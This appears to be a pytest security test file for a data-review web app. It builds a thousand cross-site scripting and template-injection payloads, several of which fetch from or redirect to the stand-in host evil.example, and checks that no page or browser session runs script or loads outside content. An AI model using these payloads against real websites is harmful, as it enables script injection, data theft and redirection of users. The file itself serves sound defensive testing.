"""Hostile text in names, titles, quotes and archived pages: a thousand made payloads, and nothing runs or loads."""

from __future__ import annotations

import csv
import io
import itertools
from pathlib import Path
from typing import get_type_hints
from urllib.parse import quote

import pytest
from bs4 import BeautifulSoup
from fastapi.responses import HTMLResponse
from fastapi.routing import APIRoute
from playwright.sync_api import Browser
from starlette.testclient import TestClient

from flows.desk import Desk
from flows.pipeline import refresh_source
from review.app import ROUTERS, create_app
from tests.pipeline.desks import DAILY, settings
from tests.review.browsers import Walk, launched
from tests.review.made import CSV, DAYS, PASSWORD, define, office, served, store_of
from tests.sources.publisher import Publisher

CALLS = ("alert({n})", "fetch('//evil.example/{n}')", "document.title={n}", "location='//evil.example/{n}'")
CARRIERS = (
    "<script>{call}</script>",
    '<img src=x onerror="{call}">',
    '<svg onload="{call}">',
    '"><script>{call}</script>',
    "'><img src=//evil.example/{n} onerror='{call}'>",
    "</title><script>{call}</script>",
    "javascript:{call}",
    "</textarea><script>{call}</script>",
    '<iframe src="javascript:{call}">',
    '<a href="javascript:{call}">x</a>',
    "{{{{ {call} }}}}",
    "{{% {call} %}}",
    "<style>@import '//evil.example/{n}'</style>",
    "<base href=//evil.example/{n}>",
    "<link rel=stylesheet href=//evil.example/{n}>",
    '<meta http-equiv=refresh content="0;//evil.example/{n}">',
    "<form action=//evil.example/{n}><button>x",
    "\u202e<b onmouseover={call}>",
    "<details open ontoggle={call}>",
    '" autofocus onfocus="{call}',
    "' style='background:url(//evil.example/{n})",
    "<math><mtext></p><script>{call}</script>",
    "--><script>{call}</script><!--",
    "<object data=//evil.example/{n}>",
    "%3Cscript%3E{call}%3C/script%3E",
)
PAYLOADS = [
    carrier.format(call=call.format(n=n), n=n) + f" {n}"
    for n, (carrier, call, _) in zip(range(1000), itertools.cycle(itertools.product(CARRIERS, CALLS, range(10))))
]
FORBIDDEN = ("script", "iframe", "object", "embed", "base", "style", "math")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A ledger whose names, title, method and archived page are payloads."""
    home = tmp_path_factory.mktemp("hostile")
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["date", "who", "tanks"])
    writer.writerows(["2025-07-31", payload, n + 1] for n, payload in enumerate(PAYLOADS))
    table = DAILY | {
        "title": PAYLOADS[0],
        "method": PAYLOADS[1],
        "caveats": PAYLOADS[2],
        "publisher": {"name": PAYLOADS[3]},
        "by": {"whom": "who"},
        "figures": [{"id": "tanks", "column": "tanks", "measure": "destroyed"}],
    }
    page = DAILY | {
        "title": "A page", "extractor": "selectors", "coverage": "latest",
        "as_of": {"css": "p", "pattern": r"(?P<as_of>\d+-\d+-\d+)"},
        "figures": [{"id": "dead", "css": "p", "pattern": r"(?P<value>\d+) dead"}],
    }  # fmt: skip
    body = "<html><body><p>2025-07-31: 12 dead</p>" + "".join(PAYLOADS) + "</body></html>"
    with Publisher() as publisher:
        publisher.page("/table", out.getvalue().encode(), headers=CSV)
        publisher.page("/page", body.encode())
        define(home, "table", table, publisher.url("/table"))
        define(home, "page", page, publisher.url("/page"))
        with Desk(settings(home), lambda: DAYS[0]) as desk:
            states = [refresh_source(desk, desk.catalogue[name]).state for name in desk.catalogue]
    store_of(settings(home)).add("ann", PASSWORD)
    assert states == ["changed", "changed"]
    return home


def dangers(html: str) -> list[str]:
    """What in a page of ours could run, load or lead elsewhere."""
    page = BeautifulSoup(html, "lxml")
    found = [str(tag)[:120] for tag in page.find_all(FORBIDDEN) if not tag.get("src", "").startswith("/static/")]
    for tag in page.find_all(True):
        for name, value in tag.attrs.items():
            text = " ".join(value) if isinstance(value, list) else value
            ours = text.startswith(("/", "?", "#")) and not text.startswith("//")
            if name.startswith("on") or name == "style" or (name in ("href", "src", "action") and not ours):
                found.append(f"{tag.name} {name}={text}"[:120])
    return found


def every_page() -> list[str]:
    """The path of every page of our own; a new one is here without being named."""
    routes = [one for router in ROUTERS for one in router.routes if isinstance(one, APIRoute)]
    return [one.path for one in routes if get_type_hints(one.endpoint)["return"] is HTMLResponse]


def test_no_page_carries_anything_that_runs_or_leads_elsewhere(hostile: Path) -> None:
    with office(hostile) as found, TestClient(create_app(found), base_url="http://127.0.0.1") as client:
        shown = client.get("/api/updates/table/1?changes=1000").json()["changes"]
        assert len(shown) == len(PAYLOADS)
        evidence = [
            f"/updates/table/1/evidence?series={quote(one['series'], safe='')}&as_of=2025-07-31" for one in shown[::40]
        ]
        series = [f"/series/{quote(one['series'])}" for one in shown[5::40]]
        plain = [path for path in every_page() if "{" not in path]
        assert {"/", "/held", "/series", "/compare", "/sources"} <= set(plain)
        pages = [
            *plain,
            "/updates/table/1?changes=1000",
            "/sources/table",
            *evidence,
            *series,
            f"/series?q={quote(PAYLOADS[3])}",
            f"/login?to={quote(PAYLOADS[6])}",
            f"/nothing{quote(PAYLOADS[0])}",
        ]
        for path in pages:
            answer = client.get(path)
            assert answer.status_code in (200, 404), path
            assert dangers(answer.text) == [], path
            assert "evil.example" not in answer.headers.get("location", "")


@pytest.fixture(scope="module")
def browser() -> Browser:
    with launched() as found:
        yield found


def test_in_a_browser_no_script_runs_and_nothing_loads_from_outside(browser: Browser, hostile: Path) -> None:
    with served(hostile) as server:
        walk = Walk(browser, server.address)
        walk.log_in()
        for path in ("/", "/updates/table/1?changes=1000", "/series", "/compare", "/sources/table", "/sources/page"):
            page = walk.go(path)
            page.wait_for_timeout(100)
            assert page.url.endswith(path)
        page = walk.go("/updates/page/1/evidence?series=page%2Fdead&as_of=2025-07-31")
        page.click("[data-side=new] a[href^='/archive/']")
        page.wait_for_selector("iframe")
        page.wait_for_timeout(500)
        assert page.frames[-1].url.startswith(server.address)
        alone = page.locator("iframe").get_attribute("src")
        page = walk.go(alone or "")
        page.wait_for_timeout(500)
        assert page.url == server.address.rstrip("/") + (alone or "")
        assert walk.foreign == []
        assert [one for one in walk.complaints if "style" not in one.lower()] == []
